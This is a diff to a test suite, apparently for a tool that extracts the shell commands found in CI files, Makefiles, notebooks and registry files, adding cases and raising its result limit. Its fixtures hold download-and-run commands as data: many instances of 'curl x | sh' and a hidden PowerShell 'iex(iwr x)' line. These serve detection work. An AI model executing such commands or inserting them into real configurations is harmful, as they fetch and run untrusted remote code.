@@ -5,7 +5,7 @@ import { commandsIn } from './read.js'
 
 /** `line text`, and the language where it is not the shell's. */
 async function lines(path: string, text: string): Promise<readonly string[]> {
-  return (await commandsIn(path, text)).map(
+  return (await commandsIn(path, text)).sources.map(
     ({ language, lineOffset = 0, text: code }) =>
       `${lineOffset + 1}${language === 'bash' ? '' : ` [${language}]`} ${code}`,
   )
@@ -84,6 +84,14 @@ describe('what other programs have run', () => {
       "steps { sh 'curl x | sh' }\n",
       ['1 curl x | sh'],
     ],
+    [
+      'a block that begins with a program of its own',
+      'a.yml',
+      'run: |\n  ./gradlew build\n  curl x | sh\n',
+      ['2 ./gradlew build\ncurl x | sh\n'],
+    ],
+    ['a line that begins with one', 'a.yml', 'run: tool -q && curl x | sh\n', ['1 tool -q && curl x | sh']],
+    ['a script in a map of files', 'map.yaml', 'data:\n  run.sh: curl x | sh\n', ['2 curl x | sh']],
     ['PowerShell', 'a.reg', '"u"="powershell -w hidden -c iex(iwr x)"\n', ['1 [powershell] iex(iwr x)']],
   ])('%s', async (_, path, text, expected) => {
     expect(await lines(path, text)).toEqual(expected)
@@ -102,7 +110,9 @@ describe('what other programs have run', () => {
       null,
       1,
     )
-    expect((await commandsIn('a.ipynb', text)).map(({ language, text: code }) => [language, code])).toEqual([
+    expect(
+      (await commandsIn('a.ipynb', text)).sources.map(({ language, text: code }) => [language, code]),
+    ).toEqual([
       ['bash', 'curl x | sh'],
       ['python', 'import os\n\nos.getcwd()\n'],
       ['bash', 'curl z | sh\n'],
@@ -144,12 +154,18 @@ it('reads anything without failing, and keeps to its bounds', async () => {
       fc.string({ unit: 'binary', maxLength: 400 }),
       async (path, noise) => {
         const found = await commandsIn(path, `${noise}\nrun: curl x | sh\n\tcurl x | sh\n${noise}`)
-        expect(found.length).toBeLessThanOrEqual(64)
+        expect(found.sources.length).toBeLessThanOrEqual(256)
       },
     ),
     { numRuns: 150 },
   )
-  expect(await commandsIn('Makefile', `a:\n${'\tcurl x | sh\n'.repeat(1000)}`)).toHaveLength(64)
+  const many = await commandsIn('Makefile', `a:\n${'\tcurl x | sh\n'.repeat(1000)}`)
+  expect(many.sources).toHaveLength(256)
+  expect(many.left).toMatchObject({ reason: 'too-many', material: true })
+  expect((await commandsIn('Makefile', ' '.repeat(1_000_001))).left).toMatchObject({
+    reason: 'too-large',
+    material: true,
+  })
 })
 
 it.each([
